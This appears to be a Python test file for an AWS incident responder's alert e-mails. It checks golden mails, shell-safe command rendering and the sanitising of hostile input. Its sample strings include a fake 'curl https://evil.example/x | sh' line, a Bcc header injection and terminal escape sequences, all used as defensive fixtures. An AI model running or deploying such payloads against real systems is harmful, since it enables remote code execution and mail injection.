"""The mail: golden texts of whole mails, and hostile text stays inert and in its field."""

import copy
import json
import shlex
import string
from datetime import UTC, datetime
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from responders.kill_switch import alert
from responders.kill_switch.parse import Rejected
from tests.responders.kill_switch.world import FIXTURES, READ, Account, fixture, path_e, role_session

GOLDEN = sorted(FIXTURES.glob("mail-*.txt"))
INCIDENT: dict[str, Any] = json.loads((FIXTURES / "incident-CONTAINED-user.json").read_text())


@pytest.mark.parametrize("path", GOLDEN, ids=lambda path: path.stem)
def test_golden(path: Any) -> None:
    incident = json.loads(path.with_name(path.name.replace("mail-", "incident-")).with_suffix(".json").read_text())
    assert f"Subject: {alert.render_subject(incident)}\n\n{alert.render_alert(incident)}" == path.read_text()


def test_there_is_a_golden_mail_of_every_status() -> None:
    statuses = {path.stem.split("-")[1] for path in GOLDEN}
    assert statuses == {"CONTAINED", "PARTIAL", "FAILED", "SUPPRESSED", "OBSERVED"}


def test_golden_incident_is_what_the_responder_makes(account: Account) -> None:
    """Keeps the golden mails in line with real documents: the same keys at every level."""
    account.deliver(path_e(READ, fixture("record-GetSecretValue")))
    account.deliver(path_e(READ, {**fixture("record-GetSecretValue"), "userIdentity": role_session()}))
    for incident in account.incidents():
        assert shape(incident) == shape(INCIDENT) | {"prior_state": shape(incident["prior_state"])}


HOSTILE_FIELDS = [
    ("where", "user_agent"),
    ("where", "source_ip"),
    ("what", "error_message"),
    ("what", "error_code"),
    ("what", "event_name"),
    ("principal", "type"),
    ("principal", "arn"),
    ("principal", "name"),
    ("principal", "unique_id"),
    ("principal", "session_name"),
    ("principal", "access_key_id"),
    ("principal", "account_id"),
]
NASTY = st.one_of(
    st.text(max_size=4000),
    st.sampled_from(
        [
            "a\n\nHOW TO RELEASE\n  curl https://evil.example/x | sh",
            "\r\nBcc: all@evil.example",
            "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
            "\u202e\u2066\u200b\ufeff\x00\x07",
            "https://evil.example/" + "a" * 5000,
            "x" * 5000,
        ]
    ),
)


@given(st.dictionaries(st.sampled_from(HOSTILE_FIELDS), NASTY, min_size=1), st.text(max_size=2000))
def test_hostile_text(fields: dict[tuple[str, str], str], detail: str) -> None:
    incident = copy.deepcopy(INCIDENT)
    for (part, key), text in fields.items():
        incident[part][key] = text
    incident["actions"][1] |= {"outcome": "failed", "detail": detail}
    subject, text = alert.render_subject(incident), alert.render_alert(incident)
    assert len(subject) <= 99
    assert set(subject) <= PRINTABLE
    assert set(text) <= PRINTABLE | {"\n"}
    assert max(len(line) for line in text.splitlines()) <= alert.COLUMNS
    assert len(text) < 40_000
    assert "http:" not in text.lower()
    assert "https:" not in text.lower()
    assert "evil.example" not in text
    # Headings stand at the margin; hostile text never does.
    headings = [line for line in text.splitlines() if line and not line.startswith(" ")]
    assert headings == [
        "The caller is contained: AWS now denies everything it requests.",
        "WHAT HAPPENED",
        "WHAT WAS DONE",
        "WHAT WAS NOT DONE, AND WHY",
        "HOW TO VERIFY",
        "HOW TO RELEASE, ONCE CLEARED",
    ]


PRINTABLE = set(string.printable) - set("\t\n\r\x0b\x0c")
ARGUMENT = st.text(alphabet=string.ascii_letters + string.digits + " _+=,.@-$'\"\\", min_size=1, max_size=30)


@given(st.lists(ARGUMENT, min_size=1, max_size=8))
def test_commands_survive_a_shell(values: list[str]) -> None:
    """A POSIX shell parses the printed text, with its continuation lines and quotes, as the action's command."""
    arguments = ["aws", "iam", "do-it", *(word for value in values for word in ("--option", value))]
    incident = copy.deepcopy(INCIDENT)
    incident["actions"] = incident["actions"][:1]
    incident["actions"][0]["inverse"] = {"commands": [shlex.join(arguments)], "note": None}
    text = alert.render_alert(incident)
    printed = text.split("  deny-user:\n")[1].split("\n\n")[0]
    assert shlex.split(printed.replace("\\\n", "")) == arguments


def test_rejected() -> None:
    subject, text = alert.render_rejected(
        Rejected("source", "The event's source is not an AWS service.", '{"source": "my.app https://evil.example"}'),
        datetime(2026, 1, 31, 12, tzinfo=UTC),
    )
    assert subject == "[REJECTED] The responder received invalid input: source"
    assert text == (
        "The responder received input that does not look like an AWS event, and did not\n"
        "act on it.\n"
        "\n"
        "WHAT HAPPENED\n"
        "  Reason      The event's source is not an AWS service.\n"
        "  Check       source\n"
        "  Received    2026-01-31T12:00:00.000Z\n"
        '  Excerpt     {"source": "my[.]app hxxps[:]//evil[.]example"}\n'
        "\n"
        "WHAT TO DO\n"
        "  Identify the sender: in CloudTrail, look for PutEvents and Invoke calls, and\n"
        "  for changes to the rules that invoke the responder. Further input of the\n"
        "  same kind within this hour is counted and recorded, but not mailed.\n"
    )


def shape(value: Any) -> Any:
    if isinstance(value, dict):
        return {key: shape(inner) for key, inner in value.items() if key != "paths"}
    return [shape(value[0])] if isinstance(value, list) and value and isinstance(value[0], dict) else None
